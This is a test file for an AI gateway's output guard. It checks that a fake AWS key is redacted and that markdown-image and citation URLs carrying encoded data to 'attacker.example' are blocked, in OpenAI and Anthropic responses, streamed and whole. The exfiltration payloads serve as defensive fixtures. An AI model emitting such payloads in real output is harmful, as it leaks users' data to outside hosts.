import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
import {
  parseSseEvents as parseEvents,
  fiveCharacterPieces as pieces,
  type ReceivedEvent as Received,
  sseEvent as sse,
} from '../test-support/sse-events.js';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';

// Providers add members to the items, blocks, deltas and events the gateway knows (a note on a message,
// citations on a text block, audio on a chat delta). Whatever the code for a known type does not handle
// must not reach the caller unchecked: end to end through a real gateway (built-in detectors, balanced
// policy) and a mock upstream on 127.0.0.1.

/** A generated AWS access key id (AKIA + 16 base32 characters), built here so no key sits in the source. */
const AWS_KEY = ['AKIA', 'Q4WJ7NRX', 'T2MZ5KVP'].join('');
const ATTACKER = 'attacker.example';
const EXFIL_URL = `https://${ATTACKER}/c?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz`;
const EXFIL = `![logo](https://${ATTACKER}/p.png?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz)`;
const REDACTED = '[REDACTED:AWS_ACCESS_KEY_ID]';
const EMAIL = 'ann@example.com';
/** What the upstream sees instead of `EMAIL` (the request's vault numbers placeholders from 1). */
const PLACEHOLDER = '<EMAIL_ADDRESS_1>';

// --- OpenAI chat ---------------------------------------------------------------------------------

function chatAnswer(message: Record<string, unknown>): Record<string, unknown> {
  return {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [{ index: 0, message: { role: 'assistant', ...message }, finish_reason: 'stop' }],
  };
}

function chatChunk(delta: Record<string, unknown>, finish: string | null = null): string {
  const chunk = {
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'm',
    choices: [{ index: 0, delta, finish_reason: finish }],
  };
  return `data: ${JSON.stringify(chunk)}\n\n`;
}

/** A chat stream: content, then one chunk with these extra delta members, then the end. */
function chatStream(extra: Record<string, unknown>): string[] {
  return [
    chatChunk({ role: 'assistant', content: '' }),
    ...pieces('Here is the answer. ').map((content) => chatChunk({ content })),
    chatChunk(extra),
    chatChunk({}, 'stop'),
    'data: [DONE]\n\n',
  ];
}

/** A URL citation as chat answers carry them (`message.annotations`). */
function urlCitation(url: string, title: string): Record<string, unknown> {
  return { type: 'url_citation', url_citation: { start_index: 0, end_index: 4, url, title } };
}

/** Every delta of a chat stream merged: strings joined, the last value of other members kept. */
function chatDeltas(events: Received[]): Record<string, unknown>[] {
  return events.flatMap(
    (event) =>
      (event.choices as { delta?: Record<string, unknown> }[] | undefined)?.map((c) => c.delta ?? {}) ?? [],
  );
}

function transcript(events: Received[]): string {
  return chatDeltas(events)
    .map((delta) => (delta.audio as { transcript?: string } | undefined)?.transcript ?? '')
    .join('');
}

function chatStoppedByGuard(text: string): boolean {
  return text.includes('"finish_reason":"content_filter"') && text.includes('AEGIS_OUTPUT_BLOCKED');
}

// --- OpenAI Responses ----------------------------------------------------------------------------

function responsesAnswer(output: unknown[]): Record<string, unknown> {
  return { id: 'resp_1', object: 'response', status: 'completed', model: 'm', output };
}

/** A message item; `extra` goes on the item, `partExtra` on its `output_text` part. */
function message(
  text: string,
  extra: Record<string, unknown> = {},
  partExtra: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    id: 'msg_1',
    type: 'message',
    status: 'completed',
    role: 'assistant',
    content: [{ type: 'output_text', text, annotations: [], ...partExtra }],
    ...extra,
  };
}

/** A Responses stream of one message item; `deltaExtra` goes on each text delta event. */
function responsesStream(item: Record<string, unknown>, deltaExtra: Record<string, unknown> = {}): string[] {
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    sse(type, { ...data, sequence_number: sequence++ });
  const content = item.content as Record<string, unknown>[];
  const part = content[0] as Record<string, unknown>;
  const text = String(part.text);
  const at = { item_id: item.id, output_index: 0, content_index: 0 };
  return [
    event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } }),
    event('response.output_item.added', { output_index: 0, item: { ...item, content: [] } }),
    event('response.content_part.added', { ...at, part: { ...part, text: '' } }),
    ...pieces(text).map((delta) => event('response.output_text.delta', { ...at, delta, ...deltaExtra })),
    event('response.output_text.done', { ...at, text }),
    event('response.content_part.done', { ...at, part }),
    event('response.output_item.done', { output_index: 0, item }),
    event('response.completed', { response: { id: 'resp_1', status: 'completed', output: [item] } }),
  ];
}

// --- Anthropic -----------------------------------------------------------------------------------

function anthropicAnswer(content: unknown[]): Record<string, unknown> {
  return {
    id: 'msg_1',
    type: 'message',
    role: 'assistant',
    model: 'claude-x',
    content,
    stop_reason: 'end_turn',
    usage: { input_tokens: 1, output_tokens: 1 },
  };
}

/** A citation of one of the caller's documents (Anthropic "Citations", `char_location`). */
function documentCitation(citedText: string): Record<string, unknown> {
  return {
    type: 'char_location',
    cited_text: citedText,
    document_index: 0,
    document_title: 'Notes',
    start_char_index: 120,
    end_char_index: 160,
  };
}

/** Text longer than the window's holdback (256), so some upstream deltas are sent on as they came. */
const LONG_TEXT = 'The notes say the weather stays fine all week long. '.repeat(8);

/** A citation of a web page (`web_search_result_location`); `encrypted_index` is opaque. */
function webCitation(url: string, title = 'Weather'): Record<string, unknown> {
  return {
    type: 'web_search_result_location',
    url,
    title,
    encrypted_index: 'Eo8BCioIAhgBIiQyYjQ0OWJmZi1lNm',
    cited_text: 'Sunny all week.',
  };
}

/** An Anthropic stream of one text block: `start` members on the block, then text, then these deltas. */
function anthropicStream(options: {
  start?: Record<string, unknown>;
  text?: string;
  deltas?: Record<string, unknown>[];
  deltaExtra?: Record<string, unknown>;
}): string[] {
  return [
    sse('message_start', { message: { id: 'msg_1', role: 'assistant', content: [] } }),
    sse('content_block_start', { index: 0, content_block: { type: 'text', text: '', ...options.start } }),
    ...pieces(options.text ?? LONG_TEXT).map((text) =>
      sse('content_block_delta', { index: 0, delta: { type: 'text_delta', text }, ...options.deltaExtra }),
    ),
    ...(options.deltas ?? []).map((delta) => sse('content_block_delta', { index: 0, delta })),
    sse('content_block_stop', { index: 0 }),
    sse('message_delta', {
      delta: { stop_reason: 'end_turn', stop_sequence: null },
      usage: { output_tokens: 9 },
    }),
    sse('message_stop', {}),
  ];
}

function anthropicStoppedByGuard(events: Received[]): boolean {
  const last = events.at(-1) as { type?: string; error?: { code?: string } } | undefined;
  return last?.type === 'error' && last.error?.code === 'AEGIS_OUTPUT_BLOCKED';
}

function startGateway(mock: MockUpstream, mode: 'window' | 'buffer'): Promise<TestGateway> {
  const origin = mock.url.replace(/\/v1$/, '');
  return startTestGateway(
    {
      streaming: { mode },
      upstreams: [
        { name: 'claude', provider: 'anthropic', baseUrl: origin, models: ['claude-x'], retries: 0 },
        { name: 'openai', provider: 'openai', baseUrl: mock.url, retries: 0 },
      ],
    },
    { guard: createGuard({ policy: 'balanced' }) },
  );
}

describe.each(['window', 'buffer'] as const)('unknown members of known types (streaming.mode %s)', (mode) => {
  let mock: MockUpstream;
  let test: TestGateway;
  beforeAll(async () => {
    mock = await startMockUpstream();
    test = await startGateway(mock, mode);
  });
  afterAll(async () => {
    await test.close();
    await mock.close();
  });

  async function post(path: string, body: Record<string, unknown>) {
    const response = await fetch(`${test.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { status: response.status, text: await response.text() };
  }
  const chat = (stream: boolean, prompt = 'Answer me.') =>
    post('/v1/chat/completions', { model: 'm', stream, messages: [{ role: 'user', content: prompt }] });
  const responses = (stream: boolean, input = 'Answer me.') =>
    post('/v1/responses', { model: 'm', input, stream });
  const messages = (stream: boolean, prompt = 'Answer me.') =>
    post('/v1/messages', {
      model: 'claude-x',
      max_tokens: 50,
      stream,
      messages: [{ role: 'user', content: prompt }],
    });

  describe('OpenAI chat', () => {
    it('redacts a key in an object member of a message and blocks exfiltration in one, whole', async () => {
      mock.script.push({
        kind: 'json',
        body: chatAnswer({ content: 'Done.', provenance: { notes: [`key ${AWS_KEY}`] } }),
      });
      const redacted = await chat(false);
      expect(redacted.status).toBe(200);
      expect(redacted.text).not.toContain(AWS_KEY);
      expect(JSON.parse(redacted.text).choices[0].message.provenance).toEqual({ notes: [`key ${REDACTED}`] });

      mock.script.push({ kind: 'json', body: chatAnswer({ content: 'Done.', provenance: { note: EXFIL } }) });
      const blocked = await chat(false);
      expect(blocked.status).toBe(422);
      expect(blocked.text).not.toContain(ATTACKER);
    });

    it('checks URL citations (`annotations`): the URL as a link, the title as text, whole', async () => {
      mock.script.push({
        kind: 'json',
        body: chatAnswer({ content: 'See.', annotations: [urlCitation(EXFIL_URL, 'Weather')] }),
      });
      const blocked = await chat(false);
      expect(blocked.status).toBe(422);
      expect(blocked.text).not.toContain(ATTACKER);

      mock.script.push({
        kind: 'json',
        body: chatAnswer({
          content: 'See.',
          annotations: [urlCitation('https://docs.example.org/weather', `Weather ${AWS_KEY}`)],
        }),
      });
      const redacted = await chat(false);
      expect(redacted.status).toBe(200);
      expect(redacted.text).not.toContain(AWS_KEY);
      expect(JSON.parse(redacted.text).choices[0].message.annotations).toEqual([
        urlCitation('https://docs.example.org/weather', `Weather ${REDACTED}`),
      ]);
    });

    it('checks the members of an audio answer besides its bytes, whole', async () => {
      const audio = { id: 'audio_1', data: 'UklGRg==', expires_at: 1, transcript: 'Hi.', voice_note: EXFIL };
      mock.script.push({ kind: 'json', body: chatAnswer({ content: null, audio }) });
      const blocked = await chat(false);
      expect(blocked.status).toBe(422);
      expect(blocked.text).not.toContain(ATTACKER);
    });

    it('passes benign extra members unchanged and restores placeholders in them, whole', async () => {
      const body = chatAnswer({
        content: 'Done.',
        refusal: null,
        annotations: [urlCitation('https://docs.example.org/weather', 'Weather this week')],
        provenance: { source: 'notes', pages: [1, 2], exact: true },
      });
      mock.script.push({ kind: 'json', body });
      const benign = await chat(false);
      expect(benign.status).toBe(200);
      expect(JSON.parse(benign.text)).toEqual(body);

      mock.script.push({
        kind: 'json',
        body: chatAnswer({ content: 'Done.', provenance: { to: [`mail ${PLACEHOLDER}`] } }),
      });
      const restored = await chat(false, `Mail ${EMAIL} the notes.`);
      expect(JSON.stringify(mock.received.at(-1)?.body)).toContain(PLACEHOLDER);
      expect(JSON.parse(restored.text).choices[0].message.provenance).toEqual({ to: [`mail ${EMAIL}`] });
    });

    it('redacts a key in an object member of a streamed delta', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: chatStream({ provenance: { note: `key ${AWS_KEY}` } }),
      });
      const result = await chat(true);
      expect(result.text).not.toContain(AWS_KEY);
      const provenance = chatDeltas(parseEvents(result.text)).find((delta) => delta.provenance !== undefined);
      expect(provenance?.provenance).toEqual({ note: `key ${REDACTED}` });
      expect(result.text).toContain('data: [DONE]');
    });

    it('stops a stream whose delta annotations carry an exfiltration URL, without sending it', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: chatStream({ annotations: [urlCitation(EXFIL_URL, 'W')] }),
      });
      const result = await chat(true);
      expect(result.text).not.toContain(ATTACKER);
      expect(chatStoppedByGuard(result.text)).toBe(true);
    });

    it('streams an audio transcript through a guarded channel: a key split across deltas never leaves', async () => {
      const events = [
        chatChunk({ role: 'assistant' }),
        ...pieces(`The key is ${AWS_KEY} ok`).map((piece, index) =>
          chatChunk({
            audio: { id: 'audio_1', ...(index === 0 ? { data: 'UklGRg==' } : {}), transcript: piece },
          }),
        ),
        chatChunk({ audio: { id: 'audio_1', expires_at: 1 } }),
        chatChunk({}, 'stop'),
        'data: [DONE]\n\n',
      ];
      mock.script.push({ kind: 'raw-stream', events });
      const result = await chat(true);
      expect(result.text).not.toContain(AWS_KEY);
      for (const piece of ['AKIA', 'Q4WJ7NRX', 'T2MZ5KVP']) expect(result.text).not.toContain(piece);
      expect(transcript(parseEvents(result.text))).toBe(`The key is ${REDACTED} ok`);
      expect(result.text).toContain('"data":"UklGRg=="');

      mock.script.push({
        kind: 'raw-stream',
        events: [
          ...pieces(`look ${EXFIL}`).map((piece) => chatChunk({ audio: { transcript: piece } })),
          chatChunk({}, 'stop'),
          'data: [DONE]\n\n',
        ],
      });
      const blocked = await chat(true);
      expect(blocked.text).not.toContain(ATTACKER);
      expect(chatStoppedByGuard(blocked.text)).toBe(true);
    });

    it('passes benign extra delta members unchanged and restores placeholders in them, streamed', async () => {
      const extra = { annotations: [urlCitation('https://docs.example.org/weather', 'Weather')], rank: [1] };
      mock.script.push({ kind: 'raw-stream', events: chatStream(extra) });
      const benign = chatDeltas(parseEvents((await chat(true)).text));
      expect(benign.find((delta) => delta.annotations !== undefined)).toEqual(extra);

      mock.script.push({ kind: 'raw-stream', events: chatStream({ provenance: { to: PLACEHOLDER } }) });
      const restored = chatDeltas(parseEvents((await chat(true, `Mail ${EMAIL} the notes.`)).text));
      expect(restored.find((delta) => delta.provenance !== undefined)?.provenance).toEqual({ to: EMAIL });
    });
  });

  describe('OpenAI Responses', () => {
    it('redacts a key in a new member of a message item and of its output_text part, and in `status`, whole', async () => {
      const item = message(
        'Done.',
        { note: `key ${AWS_KEY}`, status: AWS_KEY },
        { source: `key ${AWS_KEY}` },
      );
      mock.script.push({ kind: 'json', body: responsesAnswer([item]) });
      const result = await responses(false);
      expect(result.status).toBe(200);
      expect(result.text).not.toContain(AWS_KEY);
      expect(JSON.parse(result.text).output).toEqual([
        message('Done.', { note: `key ${REDACTED}`, status: REDACTED }, { source: `key ${REDACTED}` }),
      ]);
    });

    it('blocks markdown exfiltration in a new member of an output_text part or annotation, whole', async () => {
      mock.script.push({ kind: 'json', body: responsesAnswer([message('Done.', {}, { source: EXFIL })]) });
      const part = await responses(false);
      expect(part.status).toBe(422);
      expect(part.text).not.toContain(ATTACKER);

      const annotation = { type: 'file_citation', file_id: 'file_1', filename: EXFIL, index: 0 };
      mock.script.push({
        kind: 'json',
        body: responsesAnswer([message('Done.', {}, { annotations: [annotation] })]),
      });
      const cited = await responses(false);
      expect(cited.status).toBe(422);
      expect(cited.text).not.toContain(ATTACKER);
    });

    it('redacts a key in a new member of a streamed item, part and text delta, in every event', async () => {
      const item = message(LONG_TEXT, { note: `key ${AWS_KEY}` }, { source: `key ${AWS_KEY}` });
      mock.script.push({ kind: 'raw-stream', events: responsesStream(item, { hint: `key ${AWS_KEY}` }) });
      const result = await responses(true);
      expect(result.text).not.toContain(AWS_KEY);
      const events = parseEvents(result.text);
      expect(events.at(-1)?.type).toBe('response.completed');
      const checked = message(LONG_TEXT, { note: `key ${REDACTED}` }, { source: `key ${REDACTED}` });
      expect(events.find((event) => event.type === 'response.output_item.done')?.item).toEqual(checked);
      expect((events.at(-1)?.response as { output?: unknown[] } | undefined)?.output).toEqual([checked]);
      // Upstream deltas sent on keep their extra member, checked (held text leaves in deltas of the
      // gateway's own, which have none; in buffer mode all of it does).
      const hinted = events.filter((event) => event.hint !== undefined);
      if (mode === 'window') expect(hinted.length).toBeGreaterThan(0);
      for (const event of hinted) expect(event.hint).toBe(`key ${REDACTED}`);
    });

    it('stops a stream whose item carries exfiltration in a new member, without sending it', async () => {
      const item = message('All done here. ', { note: EXFIL });
      mock.script.push({ kind: 'raw-stream', events: responsesStream(item) });
      const result = await responses(true);
      expect(result.text).not.toContain(ATTACKER);
      const events = parseEvents(result.text);
      expect(events.at(-1)).toMatchObject({ type: 'error', error: { code: 'AEGIS_OUTPUT_BLOCKED' } });
    });

    it('passes benign members byte for byte and restores placeholders in new ones', async () => {
      const annotation = {
        type: 'url_citation',
        url: 'https://docs.example.org/a',
        title: 'A',
        start_index: 0,
        end_index: 4,
      };
      const body = responsesAnswer([
        message('Done.', { phase: 'final_answer' }, { annotations: [annotation], logprobs: [] }),
      ]);
      mock.script.push({ kind: 'json', body });
      const benign = await responses(false);
      expect(benign.status).toBe(200);
      expect(benign.text).toBe(JSON.stringify(body));

      mock.script.push({
        kind: 'json',
        body: responsesAnswer([message('Done.', { note: `to ${PLACEHOLDER}` })]),
      });
      const restored = await responses(false, `Mail ${EMAIL} the notes.`);
      expect(JSON.parse(restored.text).output).toEqual([message('Done.', { note: `to ${EMAIL}` })]);

      const streamed = message('All done here. ', { note: `to ${PLACEHOLDER}` });
      mock.script.push({ kind: 'raw-stream', events: responsesStream(streamed, { obfuscation: 'a8Kd0Zq' }) });
      const events = parseEvents((await responses(true, `Mail ${EMAIL} the notes.`)).text);
      // Padding for the upstream's pieces of text: the gateway re-cuts the text, so it is dropped.
      expect(events.filter((event) => event.obfuscation !== undefined)).toEqual([]);
      expect((events.at(-1)?.response as { output?: unknown[] } | undefined)?.output).toEqual([
        message('All done here. ', { note: `to ${EMAIL}` }),
      ]);
    });
  });

  describe('Anthropic Messages', () => {
    it('redacts a key in a citation and in a new member of a text block, whole', async () => {
      const block = (cited: string, note: string) => ({
        type: 'text',
        text: 'The notes say so.',
        citations: [documentCitation(cited)],
        note,
      });
      mock.script.push({ kind: 'json', body: anthropicAnswer([block(`key ${AWS_KEY}`, `key ${AWS_KEY}`)]) });
      const result = await messages(false);
      expect(result.status).toBe(200);
      expect(result.text).not.toContain(AWS_KEY);
      expect(JSON.parse(result.text).content).toEqual([block(`key ${REDACTED}`, `key ${REDACTED}`)]);
    });

    it('blocks a web citation whose URL carries data out, whole', async () => {
      const block = { type: 'text', text: 'Sunny.', citations: [webCitation(EXFIL_URL)] };
      mock.script.push({ kind: 'json', body: anthropicAnswer([block]) });
      const result = await messages(false);
      expect(result.status).toBe(422);
      expect(result.text).not.toContain(ATTACKER);
    });

    it('passes benign citations unchanged and restores placeholders in them, whole', async () => {
      const body = anthropicAnswer([
        { type: 'text', text: 'Sunny.', citations: [webCitation('https://weather.example.org/paris')] },
        { type: 'text', text: 'Noted.', citations: [documentCitation('Meeting on Friday.')] },
      ]);
      mock.script.push({ kind: 'json', body });
      const benign = await messages(false);
      expect(benign.status).toBe(200);
      expect(JSON.parse(benign.text)).toEqual(body);

      const cited = {
        type: 'text',
        text: 'Noted.',
        citations: [documentCitation(`Write to ${PLACEHOLDER}.`)],
      };
      mock.script.push({ kind: 'json', body: anthropicAnswer([cited]) });
      const restored = await messages(false, `Mail ${EMAIL} the notes.`);
      expect(JSON.parse(restored.text).content[0].citations).toEqual([
        documentCitation(`Write to ${EMAIL}.`),
      ]);
    });

    it('redacts a key in a streamed citations_delta, in a block start and in a new member of a text delta', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: anthropicStream({
          start: { citations: [], note: `key ${AWS_KEY}` },
          deltaExtra: { hint: `key ${AWS_KEY}` },
          deltas: [{ type: 'citations_delta', citation: documentCitation(`key ${AWS_KEY}`) }],
        }),
      });
      const result = await messages(true);
      expect(result.text).not.toContain(AWS_KEY);
      const events = parseEvents(result.text);
      expect(events.at(-1)?.type).toBe('message_stop');
      const start = events.find((event) => event.type === 'content_block_start');
      expect((start?.content_block as { note?: string } | undefined)?.note).toBe(`key ${REDACTED}`);
      const citation = events.find((event) => (event.delta as { type?: string })?.type === 'citations_delta');
      expect((citation?.delta as { citation?: unknown } | undefined)?.citation).toEqual(
        documentCitation(`key ${REDACTED}`),
      );
      const hinted = events.filter((event) => event.hint !== undefined);
      if (mode === 'window') expect(hinted.length).toBeGreaterThan(0);
      for (const event of hinted) expect(event.hint).toBe(`key ${REDACTED}`);
    });

    it('stops a stream whose citations_delta cites an exfiltration URL, without sending it', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: anthropicStream({ deltas: [{ type: 'citations_delta', citation: webCitation(EXFIL_URL) }] }),
      });
      const result = await messages(true);
      expect(result.text).not.toContain(ATTACKER);
      expect(anthropicStoppedByGuard(parseEvents(result.text))).toBe(true);
    });

    it('passes benign streamed citations unchanged and restores placeholders in them', async () => {
      const web = webCitation('https://weather.example.org/paris');
      mock.script.push({
        kind: 'raw-stream',
        events: anthropicStream({
          start: { citations: [] },
          deltas: [
            { type: 'citations_delta', citation: web },
            { type: 'citations_delta', citation: documentCitation(`Write to ${PLACEHOLDER}.`) },
          ],
        }),
      });
      const events = parseEvents((await messages(true, `Mail ${EMAIL} the notes.`)).text);
      const citations = events
        .filter((event) => (event.delta as { type?: string })?.type === 'citations_delta')
        .map((event) => (event.delta as { citation?: unknown }).citation);
      expect(citations).toEqual([web, documentCitation(`Write to ${EMAIL}.`)]);
      expect(events.at(-1)?.type).toBe('message_stop');
    });
  });
});
